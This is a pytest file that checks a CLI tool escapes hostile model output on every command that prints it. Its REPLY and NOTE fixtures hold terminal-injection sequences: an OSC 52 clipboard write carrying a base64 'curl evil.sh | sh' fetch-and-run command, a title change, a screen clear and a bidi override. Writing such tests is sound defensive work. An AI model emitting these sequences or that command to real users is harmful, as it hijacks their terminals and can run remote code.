"""Hostile model output never reaches the terminal raw, on every CLI path that prints it.

The scripted model answers with escape sequences that, written raw, would put a command on
the clipboard (OSC 52), set the window title, clear the screen, use the 8-bit CSI and reorder
the line with a bidi override, plus Rich markup that must show as written. It also files such
text in its core memory through a tool call. Every command shows it with the controls
neutralised (visible as `\\x1b`); `--json` keeps it exact.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from axo_tui.cli.app import app

AXO = Path(sys.executable).with_name("axo")

REPLY = (
    "Hi \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;owned\x07\x1b[2J\x9b31m "
    "[bold]B[/bold] [link=https://evil.example]click[/link] \u202eevil\r\nend"
)
NOTE = "note \x1b]0;owned\x07 \x9d2;t\x07 [red]x[/red]"
RAW = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e", "\r")
"""Characters that must never be written to a terminal as they are."""

# JSON strings are YAML double-quoted scalars: the YAML carries the exact characters.
PROJECT = f"""
name: hostile
agents:
  - id: mallory
    provider: scripted
    tools: [core_memory_append]
    memory:
      core:
        blocks:
          - {{ label: notes, limit: 500 }}
workflows:
  - id: flow
    agents: [mallory]
providers:
  scripted:
    replies:
      mallory:
        - text: ""
          tool_calls:
            - {{ name: core_memory_append, arguments: {{ block: notes, text: {json.dumps(NOTE)} }} }}
        - {json.dumps(REPLY)}
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "axo.yaml").write_text(PROJECT, encoding="utf-8")
    return tmp_path


def invoke(project: Path, *args: str, input: str | None = None) -> Result:
    return CliRunner().invoke(
        app, ["--config", str(project / "axo.yaml"), *args], input=input, env={"NO_COLOR": "1"}
    )


def axo(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "NO_COLOR": "1"}
    env.pop("AXO_DATA_DIR", None)
    return subprocess.run(
        [str(AXO), *args], cwd=project, capture_output=True, text=True, env=env, timeout=120
    )


def assert_safe(text: str) -> None:
    raw = [hex(ord(char)) for char in RAW if char in text]
    assert not raw, f"raw terminal controls {raw} in {text!r}"


def assert_reply_shown(text: str) -> None:
    """The reply is there, readable: its controls visible as escapes, its markup as written."""
    assert_safe(text)
    assert "Hi \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b]0;owned\\x07\\x1b[2J\\x9b31m" in text
    assert "[bold]B[/bold] [link=https://evil.example]click[/link] \\u202eevil\nend" in text


def test_axo_run_in_a_real_process(project: Path) -> None:
    done = axo(project, "run", "mallory", "-i", "hi")
    assert done.returncode == 0, done.stderr
    assert_reply_shown(done.stdout)
    assert_safe(done.stderr)


def test_run_json_keeps_the_reply_exact(project: Path) -> None:
    done = invoke(project, "run", "mallory", "-i", "hi", "--json")
    assert done.exit_code == 0, done.output
    assert json.loads(done.stdout)["output"] == REPLY
    assert_safe(done.stdout)  # exact, yet escaped: json.dumps writes \u001b


@pytest.mark.parametrize("command", [["run", "mallory"], ["workflow", "run", "flow"]])
@pytest.mark.parametrize("stream", [False, True])
def test_run_and_workflow_run_streamed_or_not(
    project: Path, command: list[str], stream: bool
) -> None:
    done = invoke(project, *command, "-i", "hi", *(["--stream"] if stream else []))
    assert done.exit_code == 0, done.output
    assert_reply_shown(done.stdout)
    assert_safe(done.stderr)


def test_chat_plain(project: Path) -> None:
    done = invoke(project, "chat", "-a", "mallory", "--plain", input="hi\n/session\n")
    assert done.exit_code == 0, done.output
    assert_reply_shown(done.stdout)
    assert_safe(done.stderr)
    assert "▸ tool core_memory_append" in done.stderr


def test_runs_show_and_events_replay_the_stored_reply_safely(project: Path) -> None:
    ran = invoke(project, "run", "mallory", "-i", "hi", "--json")
    run_id = json.loads(ran.stdout)["run_id"]
    shown = invoke(project, "runs", "show", run_id)
    assert shown.exit_code == 0, shown.output
    assert_reply_shown(shown.stdout)
    for command in (["runs", "list"], ["events", "-n", "100"]):
        listed = invoke(project, *command)
        assert listed.exit_code == 0, listed.output
        assert_safe(listed.stdout)
    exact = json.loads(invoke(project, "runs", "show", run_id, "--json").stdout)
    assert exact["activations"][0]["output"] == REPLY


def test_memory_show_and_search(project: Path) -> None:
    assert invoke(project, "run", "mallory", "-i", "hi").exit_code == 0
    shown = invoke(project, "memory", "show", "mallory")
    assert shown.exit_code == 0, shown.output
    assert_safe(shown.stdout)
    assert "note \\x1b]0;owned\\x07 \\x9d2;t\\x07 [red]x[/red]" in shown.stdout
    document = invoke(project, "memory", "show", "mallory", "--json")
    assert_safe(document.stdout)  # C1 controls too: written as \u009d, not raw
    assert json.loads(document.stdout)["core"][0]["value"] == NOTE
    found = invoke(project, "memory", "search", "mallory", "Hi", "-k", "3")
    assert found.exit_code == 0, found.output
    assert_reply_shown(found.stdout)
    hits = json.loads(invoke(project, "memory", "search", "mallory", "Hi", "--json").stdout)
    # The user's words are the memory; the agent's reply then is kept beside it, unchecked.
    assert any(hit["reply"] == REPLY for hit in hits)
